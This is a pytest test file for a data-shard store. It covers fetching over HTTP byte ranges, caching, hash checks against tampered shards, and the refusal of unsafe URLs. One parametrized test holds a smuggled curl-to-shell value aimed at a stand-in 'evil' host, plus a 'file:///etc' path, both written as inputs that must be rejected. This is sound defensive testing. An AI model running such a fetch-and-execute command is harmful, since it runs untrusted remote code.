"""Shards behind a URL: by byte ranges or through a cache, and trusted no more than others."""

import hashlib
import http.server
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from functools import partial
from pathlib import Path

import numpy as np
import pytest

from data_gen.shards import ShardError, ShardIndex, read_index
from data_gen.shards.cache import Cache, Fetch
from data_gen.shards.stores import Remote, open_store


class Handler(http.server.SimpleHTTPRequestHandler):
    """Serves a folder, byte ranges too where it is told to; remembers what was asked."""

    ranges = True
    asked: list[str]

    def log_message(self, *args: object) -> None:
        """Say nothing."""

    def do_GET(self) -> None:
        wanted = self.headers.get("Range")
        self.asked.append(f"{self.path} {wanted}")
        path = Path(self.translate_path(self.path))
        if not (wanted and self.ranges and path.is_file()):
            super().do_GET()
            return
        first, last = (int(place) for place in wanted.removeprefix("bytes=").split("-"))
        content = path.read_bytes()[first : last + 1]
        self.send_response(206)
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)


@contextmanager
def served(folder: Path, *, ranges: bool = True) -> Iterator[tuple[str, list[str]]]:
    kind = type("Own", (Handler,), {"ranges": ranges, "asked": []})
    handler = partial(kind, directory=str(folder))
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", kind.asked
        server.shutdown()


def assert_same(left: ShardIndex, right: ShardIndex) -> None:
    for row in range(len(left)):
        a, b = left.read(row), right.read(row)
        assert a.key == b.key
        assert np.array_equal(a.source, b.source)
        assert np.array_equal(a.edited, b.edited)


def test_byte_ranges_give_the_same_pairs_and_no_more_than_a_pair(published: Path) -> None:
    with served(published) as (url, asked):
        index = ShardIndex(url)
        index.require_complete()
        asked.clear()
        assert_same(index, ShardIndex(published))
    assert len(asked) == len(index)
    assert all("bytes=" in one for one in asked)


def test_a_server_without_ranges_is_told_apart(published: Path, tmp_path: Path) -> None:
    with served(published, ranges=False) as (url, _):
        with pytest.raises(ValueError, match=r"knows no byte ranges: set data\.cache to a folder"):
            ShardIndex(url).read(0)
        cached = ShardIndex(url, Cache(folder=tmp_path / "cache", limit=2**30))
        assert_same(cached, ShardIndex(published))


def test_the_cache_fetches_a_shard_once(published: Path, tmp_path: Path) -> None:
    cache = Cache(folder=tmp_path / "cache", limit=2**30)
    with served(published) as (url, asked):
        assert_same(ShardIndex(url, cache), ShardIndex(published))
        assert_same(ShardIndex(url, cache), ShardIndex(published))
    tars = [one for one in asked if ".tar" in one]
    assert len(tars) == len(set(ShardIndex(published).shards))


def test_a_shard_that_is_not_the_one_indexed_is_refused_and_not_kept(
    published: Path, tmp_path: Path
) -> None:
    shard = published / ShardIndex(published).shards[0]
    content = bytearray(shard.read_bytes())
    content[len(content) // 2] ^= 1
    shard.write_bytes(content)
    with served(published) as (url, _):
        index = ShardIndex(url, Cache(folder=tmp_path / "cache", limit=2**30))
        with pytest.raises(ShardError, match="is not what was indexed: its SHA-256 is"):
            index.read(0)
    assert not list((tmp_path / "cache").glob("*.tar"))
    assert not list((tmp_path / "cache").glob("*.part"))


def fetch(content: bytes) -> Fetch:
    return Fetch(size=lambda: len(content), fetch=lambda path: path.write_bytes(content) and None)


def test_the_cache_keeps_to_its_limit_and_throws_out_what_was_not_used(tmp_path: Path) -> None:
    cache = Cache(folder=tmp_path / "cache", limit=2500)
    files = {name: name.encode() * 1000 for name in "abc"}
    digest = {name: hashlib.sha256(content).hexdigest() for name, content in files.items()}
    get: Callable[[str], Path] = lambda name: cache.path(name, digest[name], fetch(files[name]))  # noqa: E731
    a, b = get("a"), get("b")
    get("a")
    c = get("c")
    assert (a.exists(), b.exists(), c.exists()) == (True, False, True)
    assert a.read_bytes() == files["a"]
    (tmp_path / "cache" / "dead.part").write_bytes(bytes(1200))  # of a process that was killed
    assert get("b").read_bytes() == files["b"]
    held = [path.stat().st_size for path in (tmp_path / "cache").iterdir()]
    assert sum(held) <= 2500
    with pytest.raises(ValueError, match="raise data.cache_gib"):
        cache.path("d", None, fetch(bytes(2501)))


@pytest.mark.parametrize(
    ("url", "said"),
    [
        ("pipe:curl evil|sh://x", "no folder or URL"),
        ("file:///etc", "no folder or URL"),
        ("simplecache::https://host/data", "no folder or URL"),
        ("https://me:hunter2@host/data", "has a password"),
        ("https://host/data?token=hunter2", "has a password, a query"),
    ],
)
def test_other_urls_are_refused_without_repeating_a_secret(url: str, said: str) -> None:
    with pytest.raises(ValueError, match=said) as error:
        open_store(url)
    assert "hunter2" not in str(error.value)


def test_what_is_not_there_is_named(published: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("time.sleep", lambda seconds: None)
    with served(published) as (url, _):
        with pytest.raises(FileNotFoundError, match="no index at http.*nowhere/index.parquet"):
            ShardIndex(f"{url}/nowhere")
        assert Remote(url).size("index.parquet") == (published / "index.parquet").stat().st_size
    with pytest.raises(OSError, match="cannot be read"):
        Remote(url).whole("index.parquet")


def test_published_indices_hold_the_hashes_of_their_shards(published: Path) -> None:
    _, digests = read_index(open_store(published))
    assert set(digests) == set(ShardIndex(published).shards)
    for name, digest in digests.items():
        assert hashlib.sha256((published / name).read_bytes()).hexdigest() == digest
